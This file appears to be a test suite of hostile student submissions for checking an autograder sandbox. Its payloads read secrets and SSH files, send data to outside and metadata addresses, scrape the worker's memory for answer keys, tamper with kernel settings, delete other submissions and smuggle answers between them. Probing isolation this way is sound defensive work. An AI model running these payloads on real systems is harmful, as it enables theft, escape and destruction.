"""Attacks on what is not theirs: secrets, the network, other processes, other submissions.

An answer that finds something prints it, so that it would stand on the student's page.
"""

from attack import Attack, code

SECRETS, NETWORK = "secrets", "network"
SNOOPING, OTHERS, TIMING = "/proc snooping", "another submission", "timing"

ENVIRONMENT = code("""
    import os

    def scale(x):
        print(dict(os.environ))
        for process in os.listdir("/proc"):
            for name in ("environ", "cmdline"):
                try:
                    print(open(f"/proc/{process}/{name}").read())
                except OSError:
                    pass
        return x
""")

FILES = code("""
    import glob
    import os

    def scale(x):
        paths = ["@CANARY@", "/etc/shadow", "/etc/passwd", "/run/secrets", "/var/run/docker.sock"]
        homes = [os.path.expanduser("~root"), "/home/*", os.path.join("/proc/1", "root")]
        for home in homes:
            paths += glob.glob(home + "/*") + glob.glob(home + "/.*") + glob.glob(home + "/.ssh/*")
        for path in paths:
            try:
                print(path, os.listdir(path) if os.path.isdir(path) else open(path).read(100))
            except OSError:
                pass
        return x
""")

CALL_HOME = code("""
    import socket

    def scale(x):
        for address in (("127.0.0.1", @PORT@), ("169.254.169.254", 80), ("192.0.2.1", 53)):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                try:
                    with socket.socket(type=kind) as line:
                        line.settimeout(0.2)
                        line.connect(address)
                        line.sendall(b"the hidden inputs: " + repr(x).encode())
                except OSError:
                    pass
        return x
""")

WORKER_MEMORY = code("""
    import os
    import re

    def scale(x):
        parent = os.getppid()
        try:
            maps = open(f"/proc/{parent}/maps").read()
            memory = open(f"/proc/{parent}/mem", "rb", 0)
            for line in maps.splitlines():
                if "rw-p" in line and ("heap" in line or len(line.split()) == 5):
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    memory.seek(start)
                    content = memory.read(min(end - start, 10**7))
                    for found in re.findall(rb'"(?:expected|mistakes)".{200}', content):
                        print(found)
                        return eval(found[12:].split(b"}")[0])
        except (OSError, SyntaxError):
            pass
        return x
""")

DESCRIPTORS = code("""
    import os

    def scale(x):
        for process in ("self", str(os.getppid()), "1"):
            try:
                for number in os.listdir(f"/proc/{process}/fd"):
                    with open(f"/proc/{process}/fd/{number}", "rb") as file:
                        if os.path.isfile(file.name):
                            print(number, os.readlink(file.name), file.read(2000))
            except OSError:
                pass
        return x
""")

SYSTEM_SETTINGS = code("""
    def scale(x):
        for path in ("sys/kernel/core_pattern", "sysrq-trigger", "sys/kernel/modprobe"):
            try:
                with open(f"/proc/{path}", "w") as file:
                    file.write("|/bin/touch @MARK@")
            except OSError:
                pass
        return x
""")

NEW_NAMESPACE = code("""
    import ctypes
    import os

    def scale(x):
        library = ctypes.CDLL(None, use_errno=True)
        for flags in (0x10000000, 0x00020000, 0x10000000 | 0x00020000 | 0x40000000):
            library.unshare(flags)
        library.mount(b"@ROOT@", b"/tmp", None, 4096, None)
        library.chroot(b"/proc/1/root")
        library.ptrace(16, os.getppid(), 0, 0)
        print(os.listdir("/tmp"))
        return x
""")

CHANGE_OTHERS = code("""
    import glob
    import os

    def scale(x):
        for path in ("@CANARY@", "@ROOT@/submissions/honest-anna.ipynb", "@MARK@"):
            try:
                with open(path, "w") as file:
                    file.write("changed")
            except OSError:
                pass
        for path in glob.glob("@ROOT@/**", recursive=True):
            try:
                os.remove(path)
            except OSError:
                pass
        return x
""")

LEAVE_FOR_A_FRIEND = code("""
    import ctypes
    import os

    def scale(x):
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/packages", "/worker", "@ROOT@"):
            try:
                with open(f"{folder}/for-a-friend", "w") as file:
                    file.write("@FACTOR@")
            except OSError:
                pass
        library = ctypes.CDLL(None)
        library.shmat.restype = ctypes.c_void_p
        place = library.shmat(library.shmget(4711, 4096, 0o1666), None, 0)
        if place not in (None, 2**64 - 1):
            ctypes.memmove(place, b"@FACTOR@", 3)
        return x
""")

TAKE_FROM_A_FRIEND = code("""
    import ctypes

    def scale(x):
        for folder in ("/tmp", "/dev/shm", "/var/tmp", "/packages", "/worker", "@ROOT@"):
            try:
                return int(open(f"{folder}/for-a-friend").read()) * x
            except OSError:
                pass
        library = ctypes.CDLL(None)
        library.shmat.restype = ctypes.c_void_p
        place = library.shmat(library.shmget(4711, 4096, 0o666), None, 0)
        if place not in (None, 2**64 - 1):
            return int(ctypes.string_at(place)) * x
        return x
""")

TIME_OF_OTHERS = code("""
    import os
    import time

    def scale(x):
        # Who takes long is right, one may hope; so how long do others take?
        seen = {}
        for _ in range(20):
            for process in filter(str.isdigit, os.listdir("/proc")):
                seen[process] = open(f"/proc/{process}/stat").read()
            time.sleep(0.02)
        print(len(seen), "processes", os.getloadavg())
        return x * len(seen)
""")

ATTACKS = (
    Attack(SECRETS, "environment of all processes", ENVIRONMENT),
    Attack(SECRETS, "files of the instructor", FILES),
    Attack(NETWORK, "call home", CALL_HOME),
    Attack(SNOOPING, "memory of the worker", WORKER_MEMORY),
    Attack(SNOOPING, "descriptors of the worker", DESCRIPTORS),
    Attack(SNOOPING, "settings of the system", SYSTEM_SETTINGS),
    Attack(SNOOPING, "namespaces and mounts", NEW_NAMESPACE),
    Attack(OTHERS, "changed and deleted", CHANGE_OTHERS),
    Attack(OTHERS, "answer left for a friend", LEAVE_FOR_A_FRIEND),
    Attack(OTHERS, "taken from a friend", TAKE_FROM_A_FRIEND),
    Attack(TIMING, "of another submission", TIME_OF_OTHERS),
)
